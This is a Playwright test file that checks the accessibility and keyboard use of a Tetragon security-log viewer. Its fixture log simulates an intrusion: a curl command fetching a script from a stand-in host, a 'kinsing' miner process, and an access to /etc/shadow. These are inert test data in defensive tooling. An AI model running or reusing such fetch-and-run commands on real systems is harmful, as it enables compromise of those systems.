import { AxeBuilder } from '@axe-core/playwright'
import type { Locator, Page } from '@playwright/test'
import { drawLog } from '../src/testing/draw-log'
import { expect, test } from './helpers/test'

/** Every kind of row, edge, chip and badge. Small, because axe looks at each element. */
const log = drawLog(`
  pod default/xwing container 1fb931d2 name spaceship node n1 workload Deployment/xwing shim 90
    9 /usr/bin/netserver -D 0s.. cpid 1
    10 /bin/bash 0s..9s cpid 43 not-in-tree
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /tmp/kinsing 3s..8s SIGKILL
        * 3.5s fd_install /etc/shadow policy files action SIGKILL
      13 /bin/sh 4s..
        =13 /usr/bin/python3 server.py 5s..6s exit 127
    15 /bin/health 6s..7s probe
    16 /bin/id 2s..3s parent-pid 10
  host n1
    1 /usr/lib/systemd/systemd -3600s.. procFS
    * 7s rate-limit 12
`)

const session = drawLog(`
  host n2
    4 /usr/bin/runc init -1s..99s parent kernel
  pod default/web container abc123 node n2
    8 /bin/top 5s..6s parent 4 cpid 70
`)

/** What keeps people out, in both themes: violations that axe calls serious or critical, one line each. */
async function seriousViolations(page: Page): Promise<string[]> {
  const light = await violationsIn(page, 'light')
  return [...light, ...(await violationsIn(page, 'dark'))]
}

async function violationsIn(page: Page, colorScheme: 'light' | 'dark'): Promise<string[]> {
  await page.emulateMedia({ colorScheme })
  // a colour on its way to another one is neither
  await page.waitForFunction(() => document.getAnimations().every(({ playState }) => playState !== 'running'))
  const axe = new AxeBuilder({ page }).setLegacyMode().options({ resultTypes: ['violations'] }) // there are no frames
  // only colours differ between the themes
  if (colorScheme === 'dark') axe.withRules(['color-contrast', 'link-in-text-block'])
  const { violations } = await axe.analyze()
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .flatMap(({ id, help, nodes }) =>
      nodes.map(
        ({ html, failureSummary }) =>
          `${colorScheme}, ${id}: ${help}\n  ${html.slice(0, 200)}\n  ${failureSummary ?? ''}`,
      ),
    )
}

test('the welcome page keeps nobody out', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.button('Connect').click()
  expect(await seriousViolations(page)).toEqual([])
  await page.getByRole('radio', { name: 'NATS JetStream' }).check()
  await page.getByRole('combobox', { name: 'Credentials' }).selectOption('password')
  await page.getByRole('textbox', { name: 'Server' }).press('Enter')
  await expect(page.getByRole('alert')).toContainText('it starts with wss://')
  expect(await seriousViolations(page)).toEqual([])
})

test('the workbench with a selection keeps nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', log.text))
  await viewer.selectRow('/tmp/kinsing')
  await expect(viewer.details).toContainText('fd_install')
  expect(await seriousViolations(page)).toEqual([])
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
  await page.getByRole('textbox', { name: 'Search this event' }).fill('exec_id')
  await expect(page.getByRole('search').getByRole('status')).toContainText('1 of')
  expect(await seriousViolations(page)).toEqual([])
})

test('the packed lanes with a selection keep nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', log.text))
  await viewer.selectRow('/tmp/kinsing')
  await page.keyboard.press('v')
  await expect(viewer.lanes).toBeVisible()
  await viewer.waitForIdle()
  expect(await seriousViolations(page)).toEqual([])
})

test('a filtered workbench with a notice keeps nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', log.text), await folder.write('empty.log', ''))
  await expect(viewer.notices).toHaveCount(1)
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching')
  await viewer.waitForIdle()
  expect(await seriousViolations(page)).toEqual([])
  await page.getByRole('button', { name: 'Query for other tools' }).click()
  await expect(page.getByRole('region', { name: 'Export allowlist: text' })).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
})

test('a selected range and the sessions keep nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', `${log.text}${session.text}`))
  await viewer.selectRow('/tmp/kinsing')
  await page.keyboard.press('Shift+M')
  await expect(page.getByRole('group', { name: 'Statistics of the selected range' })).toContainText('SIGKILL')
  expect(await seriousViolations(page)).toEqual([])
  await page.getByRole('tab', { name: /^Sessions/ }).click()
  await page.getByRole('checkbox', { name: /^with exec probes/ }).check()
  await expect(page.getByRole('table', { name: 'Sessions' })).toContainText('exec probe')
  expect(await seriousViolations(page)).toEqual([])
})

test('a query with its completions, its error and the reference keep nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', log.text))
  await viewer.filter.click()
  await page.keyboard.type('-exit:0 args~"x" binary:')
  await expect(page.getByRole('listbox', { name: 'Completions' }).getByRole('option').first()).toBeVisible()
  await page.keyboard.press('ArrowDown')
  expect(await seriousViolations(page)).toEqual([])
  await viewer.filter.fill('exit:maybe')
  await expect(page.getByText('exit needs a whole number')).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('F1')
  await expect(page.getByRole('dialog', { name: 'Query language' })).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
})

test('the dialogs keep nobody out', async ({ viewer, page, folder }) => {
  await viewer.goto()
  await viewer.openFiles(await folder.write('bad.log', `${log.text}not a line of a log\n`))
  await viewer.status.getByRole('button', { name: /data quality/ }).click()
  const quality = page.getByRole('dialog', { name: 'Data quality' })
  await viewer.button('List the bad line').click()
  await expect(quality).toContainText(`bad.log:${log.lines.length + 1}`)
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('Escape')
  await expect(quality).toHaveCount(0)
  await page.keyboard.press('?')
  await expect(page.getByRole('dialog', { name: 'Keys' })).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('Escape')
  await page.keyboard.press('e')
  const dialog = page.getByRole('dialog', { name: 'Export' })
  await dialog.getByRole('radio', { name: /^Processes as CSV/ }).check()
  await dialog.getByRole('button', { name: 'Export', exact: true }).click()
  await expect(dialog.getByRole('button', { name: 'Copy' })).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('Escape')
  await page.keyboard.press('Shift+C')
  await page.getByRole('radio', { name: 'NATS JetStream' }).check()
  await expect(page.getByRole('textbox', { name: 'Subjects' })).toBeVisible()
  expect(await seriousViolations(page)).toEqual([])
  await page.keyboard.press('Escape')
  await page.keyboard.press('ControlOrMeta+k')
  const palette = page.getByRole('dialog').filter({ has: page.getByRole('combobox') })
  await palette.getByRole('combobox').fill('go x')
  await expect(palette.getByRole('option').first()).toHaveAttribute('aria-selected', 'true')
  expect(await seriousViolations(page)).toEqual([])
})

test('the whole page is used without a mouse', async ({ viewer, page }) => {
  await viewer.goto()
  await expect(viewer.button('Open files')).toBeVisible()
  await page.keyboard.press('Tab')
  await expect(viewer.button('Open files')).toBeFocused()
  await viewer.tabTo(viewer.button('Open the sample'))
  await page.keyboard.press('Enter')
  await viewer.waitForIdle()
  await page.keyboard.press('/')
  await page.keyboard.type('whoami')
  await expect(viewer.status).toContainText('matching 1 of')
  await page.keyboard.press('Enter')
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await viewer.tabTo(viewer.tree)
  await page.keyboard.press('ArrowUp')
  await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-selected', 'true')
  await viewer.tabTo(viewer.brush)
  await viewer.changeRange(() => page.keyboard.press('Shift+ArrowLeft'))
  await viewer.tabTo(viewer.button('Keys'))
  await page.keyboard.press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Keys' })
  await expect(dialog).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(dialog).toHaveCount(0)
  await expect(viewer.button('Keys')).toBeFocused()
})

test('one key skips the pods, and what is missing is looked at and left by keys alone', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.tabTo(viewer.button('Skip to the processes'))
  await expect(viewer.button('Skip to the processes')).toBeInViewport({ ratio: 1 })
  await page.keyboard.press('Enter')
  await expect(viewer.tree).toBeFocused()
  await page.keyboard.press('g')
  await page.keyboard.press('q')
  await expect(page.getByRole('dialog', { name: 'Data quality' })).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(viewer.tree).toBeFocused()
})

test.describe('in high contrast', () => {
  test.beforeEach(({ page }) => page.emulateMedia({ forcedColors: 'active' }))
  test.afterEach(({ page }) => page.emulateMedia({ forcedColors: null }))

  test('what is chosen looks otherwise than the rest, and outcomes have their colours', async ({
    viewer,
    page,
    folder,
  }) => {
    /** Background and outline. */
    const looksOf = (element: Locator): Promise<string> =>
      element.evaluate((box) => {
        const { backgroundColor, outlineStyle } = getComputedStyle(box)
        return `${backgroundColor} ${outlineStyle}`
      })
    await viewer.goto()
    await viewer.openFiles(await folder.write('tetragon.log', log.text))
    const swatches = viewer.status.getByRole('list', { name: 'Colours of spans' }).locator('.swatch')
    const colours = await swatches.evaluateAll((all) =>
      all.map((swatch) => {
        const { backgroundColor, backgroundImage } = getComputedStyle(swatch)
        return `${backgroundColor} ${backgroundImage}`
      }),
    )
    expect(new Set(colours).size).toBe(colours.length)

    const other = viewer.row('/bin/bash')
    const row = await viewer.selectRow('/tmp/kinsing')
    expect(await looksOf(row)).not.toBe(await looksOf(other))
    await viewer.focusTree()
    await page.keyboard.press('ArrowDown')
    expect(await looksOf(await viewer.activeRow())).toContain('solid')
    const event = viewer.events.getByRole('option', { selected: true }).first()
    expect(await looksOf(event)).not.toBe(await looksOf(viewer.events.getByRole('option', { selected: false }).first()))
    for (const [chosen, rest] of [
      [page.getByRole('tab', { name: 'Events' }), page.getByRole('tab', { name: 'Range' })],
      [viewer.button('tree'), viewer.button('packed')],
    ])
      expect(await looksOf(chosen)).not.toBe(await looksOf(rest))
  })
})
